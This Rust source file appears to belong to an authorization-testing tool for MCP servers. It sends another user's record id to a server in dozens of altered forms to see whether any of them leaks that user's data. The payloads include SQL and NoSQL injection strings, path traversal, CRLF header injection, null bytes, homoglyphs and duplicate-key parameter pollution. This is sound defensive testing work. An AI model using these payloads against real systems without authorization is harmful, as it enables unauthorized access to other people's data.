//! Another's id in every spelling that one part of a server may read otherwise than the next one.

use base64::{Engine as _, engine::general_purpose::STANDARD};
use serde_json::{Map, Value, json};

use super::bench::{Bench, Own};
use crate::{
    canary::Side,
    drive::mcp::{Message, Way},
    target::Call,
    verdict::{Halt, Trial},
};

/// An id in some spelling.
#[derive(Clone, Debug, PartialEq)]
enum Spelled {
    /// As a text.
    Text(String),
    /// As something else than a text.
    Other(Value),
    /// All arguments, to the letter.
    Raw(String),
    /// One's own where it belongs, and the other's here.
    Beside(String, Value),
}

/// Each tool with the other's id, spelled otherwise.
pub(super) async fn spelled(bench: &Bench<'_>, trial: &mut Trial) -> Result<(), Halt> {
    let (a, b) = bench.both().await?;
    let tools: Vec<Call> = bench.ways().into_iter().filter_map(tool).collect();
    if tools.is_empty() {
        return Err(Halt::Lacking("say which tool reads by an id: read = { tool = … }".into()));
    }
    let mut tried = 0;
    for call in &tools {
        let way = Way::Tool(call.clone());
        bench.each_its_own(trial, &way, (&a, &b)).await?;
        let plain = bench.read(trial, &way, (Side::B, &a)).await?;
        if bench.foreign(trial, &a, &plain).is_some() {
            // Elsewhere it is `id-resolve`'s finding.
            return Err(Halt::Failed("A's id opens it as it is, too".into()));
        }
        for (how, spelled) in spellings(call, a.id(), b.id()) {
            let message = said(bench, call, &spelled, &b)?;
            let exchange = bench.say(bench.by(Side::B), &message).await?;
            tried += 1;
            let what = format!("B got A's record from {} by its id, {how}", call.tool);
            bench.attacked(trial, (&a, &what), &[&a.planted.exchange, &exchange]);
        }
        bench.each_its_own(trial, &way, (&a, &b)).await?;
    }
    trial.summary(format!("{} tools, {tried} spellings of the other's id", tools.len()));
    Ok(())
}

fn tool(way: Way) -> Option<Call> {
    match way {
        Way::Tool(call) if call.wants("id") => Some(call),
        _ => None,
    }
}

/// The argument that the id is the whole of.
fn place(call: &Call) -> Option<&str> {
    let arguments = call.arguments.as_ref()?.as_object()?;
    let found = arguments.iter().find(|(_, value)| *value == "{id}");
    found.map(|(name, _)| name.as_str())
}

fn said(bench: &Bench<'_>, call: &Call, spelled: &Spelled, own: &Own) -> Result<Message, Halt> {
    let words = bench.words(Side::B, own);
    let text = |text: &str| bench.mcp.calling(call, &words.clone().with("id", text));
    let mine = || bench.mcp.calling(call, &words);
    Ok(match spelled {
        Spelled::Text(id) => text(id)?,
        Spelled::Other(id) => mine()?.argument(place(call).unwrap_or("id"), id.clone()),
        Spelled::Raw(arguments) => mine()?.raw(arguments),
        Spelled::Beside(name, value) => mine()?.argument(name, value.clone()),
    })
}

/// Every spelling of an id, with what one says of it.
fn spellings(call: &Call, id: &str, own: &str) -> Vec<(String, Spelled)> {
    let mut all: Vec<(String, Spelled)> = Vec::new();
    let mut seen = std::collections::BTreeSet::from([id.to_owned(), own.to_owned()]);
    for (how, text) in texts(id, own) {
        if seen.insert(text.clone()) {
            all.push((how.to_owned(), Spelled::Text(text)));
        }
    }
    if let Some(name) = place(call) {
        all.extend(
            values(id, own).into_iter().map(|(how, value)| (how.to_owned(), Spelled::Other(value))),
        );
        all.extend(doubled(call, name, id, own));
        all.extend(beside(name, id));
    }
    all
}

/// As texts.
fn texts(id: &str, own: &str) -> Vec<(&'static str, String)> {
    let each = |change: fn(char) -> String| id.chars().map(change).collect::<String>();
    let middle = id.char_indices().nth(id.chars().count() / 2).map_or(0, |(at, _)| at);
    let (head, tail) = id.split_at(middle);
    vec![
        ("with a space before it", format!(" {id}")),
        ("with a space after it", format!("{id} ")),
        ("with a tab and a line's end around it", format!("\t{id}\r\n")),
        ("in upper case", id.to_uppercase()),
        ("in lower case", id.to_lowercase()),
        ("percent-encoded", each(percent)),
        ("percent-encoded twice", each(|c| percent(c).replace('%', "%25"))),
        ("in base64", STANDARD.encode(id)),
        ("in full-width letters", each(wide)),
        ("in letters of mathematics", each(mathematical)),
        ("in Cyrillic letters that look alike", each(cyrillic)),
        ("with a zero-width joiner in it", format!("{head}\u{200d}{tail}")),
        ("with a soft hyphen in it", format!("{head}\u{ad}{tail}")),
        ("with a byte order mark before it", format!("\u{feff}{id}")),
        ("with a zero byte behind it", format!("{id}\0")),
        ("with a zero byte and one's own behind it", format!("{id}\0{own}")),
        ("quoted", format!("\"{id}\"")),
        ("quoted once", format!("'{id}'")),
        ("as a path of this place", format!("./{id}")),
        ("as a path through one's own", format!("{own}/../{id}")),
        ("as an encoded path through one's own", format!("{own}%2f..%2f{id}")),
        ("as a path of a neighbour", format!("../{own}/../{id}")),
        ("as a path with a slash", format!("/{id}")),
        ("as a path with a slash behind it", format!("{id}/")),
        ("as a query beside one's own", format!("{own}?id={id}")),
        ("as a parameter beside one's own", format!("{own}&id={id}")),
        ("as a fragment", format!("{id}#{own}")),
        ("after one's own and a comma", format!("{own},{id}")),
        ("before one's own and a comma", format!("{id},{own}")),
        ("after one's own and a space", format!("{own} {id}")),
        ("after one's own and a semicolon", format!("{own};{id}")),
        ("in a condition that is true", format!("{own}' OR id='{id}")),
        ("as a pattern", format!("{head}%")),
        ("as a wildcard", "*".to_owned()),
        ("as another pattern", format!("{head}*")),
        ("after a header", format!("{own}\r\nX-Record-Id: {id}")),
        ("as a list in a text", format!("[\"{own}\",\"{id}\"]")),
        ("as an object in a text", format!("{{\"id\":\"{id}\"}}")),
    ]
}

/// As something that is no text.
fn values(id: &str, own: &str) -> Vec<(&'static str, Value)> {
    vec![
        ("in a list", json!([id])),
        ("in a list after one's own", json!([own, id])),
        ("in an object", json!({ "id": id })),
        ("in an object of a value", json!({ "value": id })),
        ("as what is equal", json!({ "$eq": id })),
        ("among what is in", json!({ "$in": [own, id] })),
        ("as what is not one's own", json!({ "$ne": own })),
        ("as a pattern of a database", json!({ "$regex": format!("^{id}") })),
    ]
}

/// Names that stand there twice: which of them counts is everybody's own opinion (RFC 8259, 4).
fn doubled(call: &Call, name: &str, id: &str, own: &str) -> Vec<(String, Spelled)> {
    let empty = Map::new();
    let arguments = call.arguments.as_ref().and_then(Value::as_object).unwrap_or(&empty);
    // What else is among the arguments, as it is; what has a place in it is left out.
    let others = arguments
        .iter()
        .filter(|(other, value)| other.as_str() != name && !value.to_string().contains('{'));
    let others: String = others.map(|(name, value)| format!(",{}:{value}", json!(name))).collect();
    let (key, mine, theirs) = (json!(name), json!(own), json!(id));
    let raw = |text: String| Spelled::Raw(text);
    let escaped: String = name.chars().map(|c| format!("\\u{:04x}", u32::from(c))).collect();
    vec![
        (
            "after one's own, the name twice".into(),
            raw(format!("{{{key}:{mine},{key}:{theirs}{others}}}")),
        ),
        (
            "before one's own, the name twice".into(),
            raw(format!("{{{key}:{theirs},{key}:{mine}{others}}}")),
        ),
        (
            "after one's own, the name escaped".into(),
            raw(format!("{{{key}:{mine},\"{escaped}\":{theirs}{others}}}")),
        ),
        (
            "in a second set of arguments".into(),
            raw(format!("{{{key}:{mine}{others}}},\"arguments\":{{{key}:{theirs}{others}}}")),
        ),
        (
            "in a first set of arguments".into(),
            raw(format!("{{{key}:{theirs}{others}}},\"arguments\":{{{key}:{mine}{others}}}")),
        ),
    ]
}

/// Under another name, beside one's own.
fn beside(name: &str, id: &str) -> Vec<(String, Spelled)> {
    let names = [
        name.to_uppercase(),
        format!("{name} "),
        format!("{name}[]"),
        format!("_{name}"),
        format!("{name}s"),
        "ids".to_owned(),
        "key".to_owned(),
    ];
    let mut all: Vec<(String, Spelled)> = names
        .into_iter()
        .filter(|other| other != name)
        .map(|other| (format!("as `{other}`"), Spelled::Beside(other, json!(id))))
        .collect();
    for within in ["arguments", "params", "input", "filter", "where"] {
        let nested = json!({ name: id });
        all.push((format!("nested in `{within}`"), Spelled::Beside(within.to_owned(), nested)));
    }
    all
}

fn percent(c: char) -> String {
    let mut bytes = [0; 4];
    c.encode_utf8(&mut bytes).bytes().map(|byte| format!("%{byte:02X}")).collect()
}

/// Full-width forms, which compatibility normalization (Unicode, UAX 15) makes plain again.
fn wide(c: char) -> String {
    match c {
        '!'..='~' => char::from_u32(u32::from(c) + 0xfee0).unwrap_or(c).to_string(),
        c => c.to_string(),
    }
}

/// The bold letters and digits of mathematics, likewise.
fn mathematical(c: char) -> String {
    let from = |base: u32, first: char| char::from_u32(base + u32::from(c) - u32::from(first));
    let found = match c {
        'a'..='z' => from(0x1d41a, 'a'),
        'A'..='Z' => from(0x1d400, 'A'),
        '0'..='9' => from(0x1d7ce, '0'),
        _ => None,
    };
    found.unwrap_or(c).to_string()
}

/// Letters of another alphabet that look the same (Unicode, UTS 39).
fn cyrillic(c: char) -> String {
    let same = match c {
        'a' => 'а',
        'c' => 'с',
        'e' => 'е',
        'o' => 'о',
        'p' => 'р',
        'x' => 'х',
        'y' => 'у',
        other => other,
    };
    same.to_string()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn call() -> Call {
        let arguments = Some(json!({ "id": "{id}", "full": true }));
        Call { tool: "get".into(), arguments, ..Call::default() }
    }

    #[test]
    fn no_spelling_is_the_id_itself_or_ones_own_alone() {
        let all = spellings(&call(), "note_a1", "note_b2");
        assert!(all.len() > 50, "{}", all.len());
        for (how, spelled) in &all {
            match spelled {
                Spelled::Text(text) => assert!(text != "note_a1" && text != "note_b2", "{how}"),
                Spelled::Beside(name, _) => assert_ne!(name, "id", "{how}"),
                Spelled::Other(_) | Spelled::Raw(_) => {}
            }
        }
    }

    #[test]
    fn letters_are_turned_into_those_that_look_alike() {
        let of = |letter: fn(char) -> String| "note_a1".chars().map(letter).collect::<String>();
        assert_eq!(of(wide), "ｎｏｔｅ＿ａ１");
        assert_eq!(of(mathematical), "𝐧𝐨𝐭𝐞_𝐚𝟏");
        assert_eq!(of(percent), "%6E%6F%74%65%5F%61%31");
    }

    #[test]
    fn what_is_said_twice_keeps_the_other_arguments() {
        let all = spellings(&call(), "A", "B");
        let raw: Vec<&String> = all
            .iter()
            .filter_map(
                |(_, spelled)| if let Spelled::Raw(text) = spelled { Some(text) } else { None },
            )
            .collect();
        assert!(raw.contains(&&r#"{"id":"B","id":"A","full":true}"#.to_owned()), "{raw:?}");
        for text in raw {
            let body = format!("{{\"arguments\":{text}}}");
            assert!(serde_json::from_str::<Value>(&body).is_ok(), "{body}");
        }
    }
}
